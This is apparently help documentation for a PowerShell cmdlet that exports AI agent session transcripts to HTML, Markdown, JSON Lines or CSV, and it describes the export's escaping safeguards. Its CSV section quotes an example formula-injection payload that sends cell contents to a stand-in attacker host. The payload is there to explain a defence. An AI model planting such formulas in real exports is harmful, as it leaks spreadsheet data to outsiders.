@{
    Synopsis    = 'Exports session transcripts to HTML, Markdown, JSON Lines or CSV files.'
    Description = @'
Export-GumloopTranscript writes the transcripts of sessions to files that people can read, auditors can keep and pipelines can reload. It takes sessions from the pipeline as Get-GumloopMessage does: session ids, Session objects that hold their messages (written without another request), and Session objects from a list (Get-GumloopSession -AgentId), which are fetched in full first. Each session is written as it arrives and then dropped, so memory use stays flat however many sessions are exported.

Without -SplitBySession all sessions go into one file, -Path (or transcript.<ext> inside -Path when it is an existing folder). With -SplitBySession, -Path is a folder (created when missing) that gets one file per session, named from the session's name and id, plus, for Html, an index.html that links to them with each session's state, date, message count and credit cost.

Formats:
- Html: one self-contained page with inline CSS, no script and no network fetch (a Content-Security-Policy forbids both). It shows each session's agent, name, state, creation time, participants, usage and credit cost, then one article per message with its author, role and UTC timestamp. Tool calls and their results fold into <details> elements; pending approval asks show their outcome. It adapts to dark and light mode and prints cleanly. All text from the API is HTML-escaped and terminal escape sequences are removed, so no agent text can add markup, script, links or remote images.
- Markdown: for pasting into tickets; a heading per session, a quote block per message, and each tool call as fenced JSON. Raw HTML, links and images in agent text are escaped.
- Jsonl: one JSON object per message, with session_id, agent_id, agent_name, session_name, session_state and author_name added to the message's own fields; parts are kept whole. Import-GumloopTranscript reads it back.
- Csv: the same columns and rows as Get-GumloopMessage | Export-Csv. -IncludeToolDetail adds ToolCallCount, ToolNames, ToolStates, ToolArguments, ToolResults and ToolErrors.

CSV formula injection: a spreadsheet runs a cell that starts with =, +, -, @, a tab or a carriage return as a formula, and agent text can be steered to start that way (for example =HYPERLINK("https://attacker.example/?"&A1,"Click")). -Format Csv therefore prefixes such cells with an apostrophe, which spreadsheets show as text. -NoFormulaEscape writes the raw text, as Export-Csv does. Plain Get-GumloopMessage | Export-Csv never escapes.

A fetched transcript is streamed: each message is written as soon as its JSON has arrived, so memory stays flat however long the transcript is (a million messages add a few tens of MB). The connection's response-size limit (Connect-Gumloop -MaxResponseSizeMB, 128 MB by default) applies to buffered responses; a streamed transcript is not limited in total, only each message in it is held to that limit. Author names come after the messages in the service's response, so a transcript longer than about 4 MB of messages is read twice: once for the session's fields, once for its messages.

Existing files are never overwritten without -Force; files are written to a temporary name and renamed when complete, so a stopped or failed export leaves no partial file. A session that cannot be fetched or written is a non-terminating error, and the other sessions are still exported. Each written file is output as a FileInfo with Format, SessionCount and MessageCount.
'@
    Parameters  = @{
        SessionId        = 'Ids of sessions to export; each is fetched in full. Binds by value from piped strings and by property name from the SessionId property of other piped objects.'
        Session          = 'A session object, usually piped in. Its messages are used without a request; a session from a list, which carries none, is fetched in full first.'
        Path             = 'Without -SplitBySession, the file to write, or an existing folder to hold transcript.<ext>. With -SplitBySession, the folder for the per-session files (created when missing).'
        Format           = 'Html, Markdown, Jsonl or Csv.'
        SplitBySession   = 'Writes one file per session into the folder -Path, named from the session name and id (safe on Windows and Linux). With -Format Html it also writes index.html linking to every file.'
        IncludeToolDetail = 'Csv only: adds columns summarising each message''s tool calls (count, names, states, arguments, results and errors; long values are shortened). Html and Markdown always show tool calls; Jsonl keeps them whole.'
        NoFormulaEscape  = 'Csv only: writes cells that start with =, +, -, @, tab or carriage return unchanged instead of prefixing them with an apostrophe. Use it only when no spreadsheet will open the file.'
        Force            = 'Replaces files that already exist. Without it an existing file is an error and is left untouched.'
    }
    Examples    = @(
        @{
            Title   = 'Every session of an agent as HTML pages with an index'
            Code    = 'Get-GumloopSession -AgentId $a -All | Export-GumloopTranscript -Path ./transcripts -Format Html -SplitBySession'
            Remarks = 'Writes one page per session and ./transcripts/index.html linking to them with state, date, message count and credit cost. Open index.html in any browser; the pages load nothing from the network.'
        }
        @{
            Title   = 'One page for a session, to attach to an audit'
            Code    = "Export-GumloopTranscript -SessionId 'sess_Vk3nQ8wT2p' -Path ./northwind.html -Format Html"
            Remarks = 'Tool calls and their results are folded under each answer; print it or save it as PDF from the browser.'
        }
        @{
            Title   = 'JSON Lines for a data pipeline, read back offline'
            Code    = @'
Get-GumloopSession -AgentId $a -All | Export-GumloopTranscript -Path ./all.jsonl -Format Jsonl
Import-GumloopTranscript ./all.jsonl | Where-Object Role -eq 'assistant' | Export-Csv answers.csv
'@
            Remarks = 'Each line is one message with its session fields; Import-GumloopTranscript gives back the same Message objects as Get-GumloopMessage, without a connection.'
        }
        @{
            Title   = 'CSV for a spreadsheet, with tool-call columns'
            Code    = 'Export-GumloopTranscript -SessionId $s -Path ./t.csv -Format Csv -IncludeToolDetail'
            Remarks = 'Cells that a spreadsheet would run as formulas are prefixed with an apostrophe; add -NoFormulaEscape for the raw text.'
        }
        @{
            Title   = 'Markdown to paste into a ticket'
            Code    = '$session | Export-GumloopTranscript -Path ./ticket.md -Format Markdown -Force'
            Remarks = 'A heading for the session, a quote block per message and each tool call as fenced JSON. -Force replaces ticket.md if it exists.'
        }
    )
    Outputs     = @{
        'System.IO.FileInfo' = 'Each file written (and index.html last), with Format, SessionCount and MessageCount added.'
    }
    Links       = @('Import-GumloopTranscript', 'Get-GumloopMessage', 'Get-GumloopSession', 'Export-Csv')
}
